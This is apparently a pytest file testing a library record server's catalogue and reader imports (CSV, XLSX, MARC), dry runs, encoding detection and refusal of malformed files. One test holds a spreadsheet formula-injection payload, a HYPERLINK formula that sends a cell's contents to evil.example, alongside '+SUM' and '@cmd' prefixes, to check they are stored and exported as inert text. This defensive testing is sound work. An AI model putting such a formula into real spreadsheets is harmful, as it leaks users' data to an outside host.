"""Import files against a real database (SQLite and a throwaway PostgreSQL, where the write
is COPY) and the ``record-server import-*`` command: what lands is what a kiosk pulls, a
commit that meets a change since its dry run writes nothing, and hostile files (not a table, a
huge row, formulas, GBK, bytes of no encoding, a broken MARC record) are refused with a named
reason or stored as text.
"""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import sys
from pathlib import Path

import pymarc
import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from library_core.clock import CHINA_TZ
from library_core.codes import make_card_no, make_item_barcode
from library_core.contract import ItemEntity, ReaderEntity
from record_server import changes
from record_server import models as m
from record_server.config import load_config
from record_server.console.exports import table_xlsx
from record_server.crud.items import upsert_item
from record_server.db import Database
from record_server.imports import jobs
from record_server.imports.marc import MarcProfile
from record_server.imports.rows import FileRefused
from tests.support.import_files import (
    ITEM_HEADER,
    READER_HEADER,
    csv_bytes,
    iso2709,
    marc21_record,
    xlsx_bytes,
)
from tests.support.postgres import postgres_cluster_fixture  # noqa: F401
from tests.support.server_process import REPO, db_url_fixture  # noqa: F401
from tests.support.services import make_reader

NOW = dt.datetime(2026, 12, 1, 10, 0, tzinfo=CHINA_TZ)
SCHEDULE = load_config(data_dir="/tmp").fee_schedule
KEY = b"unit-test-library-key-0123456789"


@pytest.fixture(name="db")
def db_fixture(db_url: str) -> Database:  # noqa: F811
    db = Database(db_url)
    db.migrate()
    return db


def _items(n: int, start: int = 1) -> list[list[str]]:
    return [[make_item_barcode(i), f"图书{i}", "作者", f"I{i}"] for i in range(start, start + n)]


def _count(db: Database, table: object) -> int:
    with db.read() as conn:
        return int(conn.execute(select(func.count()).select_from(table)).scalar_one())  # type: ignore[arg-type]


def test_items_and_readers_land_as_a_kiosk_pulls_them(db: Database) -> None:
    data = csv_bytes(ITEM_HEADER, _items(25_000))  # more than one write batch
    counts = jobs.commit(db, jobs.ImportFile("items", "items.csv", data), now=NOW,
                         schedule=SCHEDULE, staff_no="S0002")
    assert counts == {"items": 25_000}
    people = [make_reader(n) for n in (1, 2)]
    readers = xlsx_bytes(READER_HEADER, [
        [people[0].name, people[0].id_number, int(people[0].phone), "成人",
         make_card_no(77), "0A1B2C3D"],
        [people[1].name, people[1].id_number, people[1].phone, "student", "", ""]])
    assert jobs.commit(db, jobs.ImportFile("readers", "r.xlsx", readers), now=NOW,
                       schedule=SCHEDULE, staff_no="S0002") == {"readers": 2, "cards": 1}
    with db.read() as conn:
        page = changes.page(conn, 0, 30_000, library_key=KEY)
        published = {(c["entity"], c["id"]): c["data"] for c in page["changes"]}
        barcodes = [make_item_barcode(i) for i in (1, 12_345, 25_000)]
        # what the import stored in the change log is what publish makes of the rows
        assert {b: published[("item", b)] for b in barcodes} == changes.snapshots(
            conn, "item", barcodes)
        reader_ids = [str(r) for r in conn.execute(select(m.readers.c.reader_id)).scalars()]
        state = conn.execute(select(m.server_state.c.last_change_seq)).scalar_one()
    assert state == max(c["seq"] for c in page["changes"]) == 25_000 + 2 + 1
    assert ItemEntity.model_validate(published[("item", barcodes[1])]).title == "图书12345"
    pulled = [ReaderEntity.model_validate(published[("reader", r)]) for r in reader_ids]
    assert sorted(p.name for p in pulled) == sorted(p.name for p in people)
    assert {p.category for p in pulled} == {"adult", "student"}
    assert published[("card", make_card_no(77))]["uid"] == "0A1B2C3D"
    assert published[("card", make_card_no(77))]["expires_on"] == "2029-12-01"  # 36 months


def test_a_commit_meeting_a_change_since_the_dry_run_writes_nothing(db: Database) -> None:
    data = csv_bytes(ITEM_HEADER, _items(50))
    f = jobs.ImportFile("items", "items.csv", data)
    assert jobs.dry_run(db, f, today=NOW.date()).ok
    with db.write() as conn:  # the desk puts one of them in the catalogue meanwhile
        upsert_item(conn, barcode=make_item_barcode(30), title="别的书", author="",
                    call_no="", hold=False)
    before = (_count(db, m.items), _count(db, m.changes), _count(db, m.audit_log))
    with pytest.raises(jobs.ImportBlocked) as blocked:
        jobs.commit(db, f, now=NOW, schedule=SCHEDULE, staff_no="S0002")
    assert [(e.line, e.reason) for e in blocked.value.checked.errors] == [(31, "barcode_exists")]
    assert (_count(db, m.items), _count(db, m.changes), _count(db, m.audit_log)) == before


def test_formulas_are_stored_as_text_and_exported_inert(db: Database) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    rows = [[make_item_barcode(1), formula, "+SUM(1,2)", "@cmd"],
            [make_item_barcode(2), "=1+1", "", ""]]
    for name, data in (("f.csv", csv_bytes(ITEM_HEADER, rows[:1])),
                       ("f.xlsx", xlsx_bytes(ITEM_HEADER, rows[1:]))):
        jobs.commit(db, jobs.ImportFile("items", name, data), now=NOW, schedule=SCHEDULE,
                    staff_no="S0002")
    with db.read() as conn:
        stored = {r.barcode: (r.title, r.author, r.call_no) for r in conn.execute(
            select(m.items))}
    assert stored == {make_item_barcode(1): (formula, "+SUM(1,2)", "@cmd"),
                      make_item_barcode(2): ("=1+1", "", "")}
    book = load_workbook(io.BytesIO(table_xlsx(
        list(ITEM_HEADER), [[b, *v] for b, v in stored.items()], title="items")))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row[1:]]  # type: ignore[union-attr]
    assert all(c.data_type != "f" for c in cells)  # the console's export makes them text


def test_gbk_csv_is_read_as_gb18030_and_said_so(db: Database) -> None:
    person = make_reader(3)
    data = csv_bytes(READER_HEADER, [[person.name, person.id_number, person.phone, "成人",
                                      "", ""]], encoding="gbk")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")
    checked = jobs.dry_run(db, jobs.ImportFile("readers", "gbk.csv", data), today=NOW.date())
    assert (checked.encoding, [r.name for r in checked.readers]) == ("gb18030", [person.name])


@pytest.mark.parametrize(("data", "reason"), [
    (b"barcode,title\n30000000000012,\xff\xfe\xff\n", "encoding"),  # no UTF-8, no GB18030
    (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR", "not_table"),
    (b"PK\x03\x04 not really a workbook", "not_table"),
    (b"barcode,title\n30000000000012,\"" + b"x" * 200_000 + b"\"\n", "row_too_large"),
    (b"title,author\n", "missing_columns"),
    (b"\n\n  \n", "empty"),
])
def test_hostile_tables_are_refused_by_name(db: Database, data: bytes, reason: str) -> None:
    with pytest.raises(FileRefused) as refused:
        jobs.dry_run(db, jobs.ImportFile("items", "x.csv", data), today=NOW.date())
    assert refused.value.reason == reason
    assert _count(db, m.items) == 0


def test_a_long_cell_and_a_broken_marc_record_are_row_errors(db: Database) -> None:
    long = csv_bytes(ITEM_HEADER, [[make_item_barcode(1), "书" * 2000, "", ""],
                                   [make_item_barcode(2), "好书", "", ""]])
    checked = jobs.dry_run(db, jobs.ImportFile("items", "l.csv", long), today=NOW.date())
    assert [(e.line, e.reason) for e in checked.errors] == [(2, "cell_too_long")]
    good = iso2709([marc21_record("红楼梦", "曹雪芹", [make_item_barcode(3)])])
    broken = iso2709([marc21_record("三体", "刘慈欣", [make_item_barcode(4)])])[:-1] + b"X"
    data = good + iso2709([marc21_record("无条码", "某人", [])]) + broken  # no end-of-record
    checked = jobs.dry_run(db, jobs.ImportFile("marc", "m.mrc", data, MarcProfile("marc21")),
                           today=NOW.date())
    assert [(e.line, e.reason, e.value) for e in checked.errors] == [
        (2, "marc_no_barcode", "无条码"),
        (3, "marc_record_unreadable", "EndOfRecordNotFound: the rest of the file is unreadable")]
    assert [i.title for i in checked.items] == ["红楼梦"]


def test_the_barcode_field_is_configurable() -> None:
    record = marc21_record("围城", "钱锺书", [])
    record.add_field(pymarc.Field(tag="852", indicators=pymarc.Indicators(" ", " "), subfields=[
        pymarc.Subfield("p", make_item_barcode(8)), pymarc.Subfield("h", "I246.5")]))
    data = iso2709([record])
    default = jobs.check_file(jobs.ImportFile("marc", "m.mrc", data), today=NOW.date())
    assert [e.reason for e in default.errors] == ["marc_no_barcode"]
    moved = jobs.check_file(jobs.ImportFile("marc", "m.mrc", data, MarcProfile(
        "marc21", "852$p", "852$h")), today=NOW.date())
    assert [(i.barcode, i.title, i.call_no) for i in moved.items] == [
        (make_item_barcode(8), "围城", "I246.5")]
    with pytest.raises(FileRefused, match="bad_field_spec"):
        jobs.check_file(jobs.ImportFile("marc", "m.mrc", data, MarcProfile("marc21", "85$p")),
                        today=NOW.date())


def _cli(tmp_path: Path, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "record_server", *args, "--data-dir",
                           str(tmp_path / "srv")], cwd=REPO, capture_output=True, text=True,
                          timeout=120)


def test_the_command_line_imports_with_the_same_checks(tmp_path: Path) -> None:
    bad = tmp_path / "items.csv"
    bad.write_bytes(csv_bytes(ITEM_HEADER, [*_items(3), [make_item_barcode(1), "重复", "", ""],
                                            ["30000000000000", "坏条码", "", ""]]))
    res = _cli(tmp_path, "import-items", str(bad))
    assert res.returncode == 1, res.stderr
    assert res.stdout.splitlines()[:2] == [
        f"5\tbarcode\tbarcode_duplicate_in_file\t{make_item_barcode(1)} (2)",
        "6\tbarcode\tbarcode_invalid\t30000000000000"]
    bad.write_bytes(csv_bytes(ITEM_HEADER, _items(3)))
    assert _cli(tmp_path, "import-items", str(bad), "--dry-run").returncode == 0
    res = _cli(tmp_path, "import-items", str(bad))
    assert res.returncode == 0 and res.stdout.startswith("imported 3 items from items.csv")
    marc = tmp_path / "c.mrc"
    marc.write_bytes(iso2709([marc21_record("红楼梦", "曹雪芹", [make_item_barcode(9)])]))
    assert _cli(tmp_path, "import-items", str(marc)).stdout.startswith("imported 1 items")
    png = tmp_path / "r.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    res = _cli(tmp_path, "import-readers", str(png))
    assert (res.returncode, res.stdout.split()[:2]) == (2, ["refused:", "not_table"])
    db = Database(f"sqlite:///{tmp_path / 'srv' / 'records.sqlite3'}")
    with db.read() as conn:
        audits = conn.execute(select(m.audit_log.c.staff_no, m.audit_log.c.action,
                                     m.audit_log.c.target)).all()
    assert [tuple(a) for a in audits] == [("cli", "import.items", "items.csv"),
                                          ("cli", "import.marc", "c.mrc")]


def test_a_dry_run_reports_its_progress(db: Database) -> None:
    seen: list[int] = []
    data = csv_bytes(ITEM_HEADER, _items(12_000))
    checked = jobs.dry_run(db, jobs.ImportFile("items", "p.csv", data), today=NOW.date(),
                           progress=seen.append)
    assert seen == [5000, 10000, 12000] and checked.rows == 12_000
